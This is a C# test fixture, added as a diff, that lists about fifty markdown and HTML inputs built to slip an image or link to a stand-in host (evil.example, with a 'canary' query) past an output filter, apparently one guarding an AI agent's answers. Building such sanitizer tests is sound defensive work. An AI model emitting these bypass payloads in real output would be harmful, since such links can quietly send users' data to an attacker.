@@ -1,0 +1,67 @@
+namespace Lectern.Tests.Agent.Answers;
+
+/// <summary>
+/// Ways by which an address came through once, or nearly: each is an element of some public program before it is filtered.
+/// </summary>
+internal static class HostileRecipes
+{
+    private const string Picture = "![x](//evil.example/?q=canary)";
+
+    public static IReadOnlyList<(string Name, string Text)> All { get; } =
+    [
+        ("a picture", Picture),
+        ("a backtick in the words behind a fence", $"```a`b\n{Picture}\n"),
+        ("a fence indented by four blanks", $"    ```\n\n{Picture}\n\n    ```\n"),
+        ("a fence indented by four blanks behind a list", $"- a\n\n      ```\n\n  {Picture}\n"),
+        ("a fence indented by a tab", $"\t```\n\n{Picture}\n\n\t```\n"),
+        ("a fence in a quotation that ends", $"> ```\n{Picture}\n> ```\n"),
+        ("a fence in a list item that ends", $"- ```\n{Picture}\n- ```\n"),
+        ("a fence that is closed too far to the right", $"```\ncode\n    ```\n```\n{Picture}\n"),
+        ("a fence that is closed in a quotation of its code", $"```\n> ```\n```\n{Picture}\n"),
+        ("a fence that some programs see closed", $"```\ncode\n```~~\n{Picture}\n"),
+        ("CR as the only line end", $"```\rcode\r```\r{Picture}\r"),
+        ("CR before LF in one place only", $"```\r\ncode\r```\n{Picture}\n"),
+        ("a definition in a list and a quotation", "- > [x]: //evil.example/?q=canary\n\n![x]\n"),
+        ("a definition behind tabs", "-\t[x]: //evil.example/?q=canary\n\n![x]\n"),
+        ("a definition in the next line", "[x]:\n//evil.example/?q=canary\n\n![x]\n"),
+        ("a definition with a label of two lines", "[x\ny]: //evil.example/?q=canary\n\n![x y]\n"),
+        ("a definition behind a note's", "[^1]: [x]: //evil.example/?q=canary\n\n![x] [^1]\n"),
+        ("a definition whose words are a mark",
+            "[x]: //evil.example/?q=canary [2]\n\n![x]\n[x]: //evil.example/?q=canary\n\n![x]"),
+        ("a label of 2,001 characters", $"![{new string('x', 2_001)}](//evil.example/?q=canary)"),
+        ("a link's label of 2,001 characters", $"[{new string('x', 2_001)}](//evil.example/?q=canary)"),
+        ("a tag behind the address", "![x](//evil.example/p?q=canary<b>)"),
+        ("an address in angle brackets", "![x](<//evil.example/p?q=canary canary>)"),
+        ("an address in the next line", "![x](\n//evil.example/p?q=canary\n)"),
+        ("a title in the next line", "![x](//evil.example/p?q=canary\n\"t\")"),
+        ("an entity in a picture's address", "![x](&#104;ttps://evil.example/canary)"),
+        ("entities in an address of the text", "https&colon;&sol;&sol;evil.example/canary"),
+        ("escapes in an address of the text", "https:\\/\\/evil.example/canary"),
+        ("an address behind letters", "xhttp://www.evil.example/canary"),
+        ("an address without a scheme", "//evil.example/canary"),
+        ("a mail address", "canary@evil.example"),
+        ("a mail address without a point", "mailto:canary@evil"),
+        ("a known address and an escape", HostileMarkdown.Known + "\\?canary"),
+        ("a known address and a bar", HostileMarkdown.Known + "|canary"),
+        ("a known address and a tag", HostileMarkdown.Known + "<canary>"),
+        ("a known address and its end behind a mark", HostileMarkdown.Known + "[2]?canary"),
+        ("a known link whose title is one", $"[x]({HostileMarkdown.Known} \"](//evil.example/canary)\")"),
+        ("a formula that takes a backtick", $"$`$ {Picture} `"),
+        ("a formula in brackets that takes a backtick", $"\\(`\\) {Picture} `"),
+        ("a formula of its own lines that takes a fence", $"$$\n```\n$$\n{Picture}\n```\n"),
+        ("a deletion that takes a backtick", "~~a `b~~ //evil.example/canary`"),
+        ("a table that takes a backtick", $"| a |\n|---|\n| ` | {Picture} | ` |\n"),
+        ("a backtick alone in the line before", $"a ` b\nc ` {Picture} `"),
+        ("HTML that takes a fence", $"<hr>\n```\n{Picture}\n\n{Picture}\n```\n"),
+        ("HTML that takes a span of code", "<b>\n`<img src=\"//evil.example/canary\">`\n"),
+        ("an escape in HTML", "<b>\n\\<img src=\"//evil.example/canary\">\n"),
+        ("a tag in two lines", "<img\nsrc=\"//evil.example/canary\">"),
+        ("a comment", "<!-- x --> <img src=\"//evil.example/canary\">"),
+        ("a lazy line that a table ends", $"- a\n\n  | a | b |\n  |---|---|\nx | y |\n\n\n  ```\n{Picture}\n  ```\n"),
+        ("a fence in a list that is none", $"> Item:\n\n\t> x\n\n> 10. y:\n>     ```\n>     {Picture}\n>     ```\n\n{Picture}"),
+        ("brackets in brackets", "[![x](//evil.example/canary)](//evil.example/canary)"),
+        ("a picture by reference", "![x][y]\n\n[y]: //evil.example/canary"),
+        ("a script's address", "[x](javascript:canary)"),
+        ("data as an address", "[x](data:text/html,canary)"),
+    ];
+}
